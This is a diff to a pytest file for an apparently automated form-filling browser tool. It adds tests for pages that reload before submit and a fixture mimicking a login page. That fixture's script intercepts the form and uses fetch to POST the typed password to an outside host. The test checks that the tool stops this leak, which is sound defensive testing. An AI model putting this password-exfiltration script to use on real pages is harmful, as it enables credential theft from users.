@@ -4,12 +4,14 @@ import asyncio
 from collections.abc import Callable
 
 import pytest
+from playwright.async_api import Page
 
+from objector.browser.errors import StrayedError
 from objector.browser.launch import Session
-from objector.page.errors import NoAnswerError
+from objector.page.errors import NoAnswerError, StuckError
 from objector.page.form import Form
 from tests.flows.conftest import DeskOfATest
-from tests.parts.served import Served
+from tests.parts.served import ELSEWHERE, Served
 
 FORM = """<form method=post action=/sent><p><label>Your email address <input name=email></label></p>
 <p><label>Why do you object? <textarea name=reason></textarea></label></p><button>Submit</button></form>"""
@@ -18,7 +20,18 @@ RELOADS = """<script>if (!sessionStorage.once) document.forms[0].oninput = () =>
 };</script>"""
 SENDS = "<script>document.forms[0].reason.oninput = () => document.forms[0].requestSubmit();</script>"
 HELD = "[document.forms[0].email.value, document.forms[0].reason.value]"
+SIGN_IN = f"""<h1>Log in</h1><form><label>Email or phone <input autocomplete=username></label>
+<label>Password <input type=password></label><button>Log in</button></form><script>document.forms[0].onsubmit = event => {{
+  event.preventDefault(); fetch('{ELSEWHERE}', {{method: 'POST', mode: 'no-cors', body: event.target[1].value}});
+}};</script>"""
 ANSWERS = {"email": "anna@example.org", "reason": "I draw."}
+
+
+class Reloads(DeskOfATest):
+    """A desk at which the page loads itself anew while its picture is taken."""
+
+    async def keep_filled(self, page: Page) -> None:
+        await page.evaluate("new Promise(() => location.reload())")
 
 
 def form_on(session: Session, seconds: float) -> Form:
@@ -29,6 +42,17 @@ def test_a_page_that_loads_itself_anew_while_it_is_filled_is_answered_anew(run: 
     session = show(FORM + RELOADS)
     run(form_on(session, 12).answer(**ANSWERS))
     assert run(session.page.evaluate(HELD)) == list(ANSWERS.values())
+
+
+def test_a_page_that_loads_itself_anew_right_before_the_submit_is_not_submitted(
+    run: Callable, show: Callable[[str], Session], served: Served
+) -> None:
+    session = show(FORM)
+    form = Form(session.page, session.guard, Reloads(session.page, asyncio.Queue()), 12)
+    run(form.answer(**ANSWERS))
+    with pytest.raises(StuckError, match="again and again"):
+        run(form.submit())
+    assert (served.posted(), form.desk.fences) == ([], [])
 
 
 def test_a_form_that_sends_itself_before_it_was_agreed_to_is_in_doubt_and_not_filed_anew(
@@ -52,3 +76,12 @@ def test_thanks_that_stood_on_the_page_before_confirm_nothing(
     with pytest.raises(NoAnswerError, match="neither yes nor no, but “Help Centre”"):
         run(form.submit())
     assert form.desk.fences == ["submit"]
+
+
+def test_a_password_that_the_page_sends_elsewhere_is_stopped(
+    run: Callable, show: Callable[[str], Session], served: Served
+) -> None:
+    form = form_on(show(SIGN_IN), 12)
+    with pytest.raises(StrayedError):
+        run(form.answer(**ANSWERS))
+    assert served.posted() == []
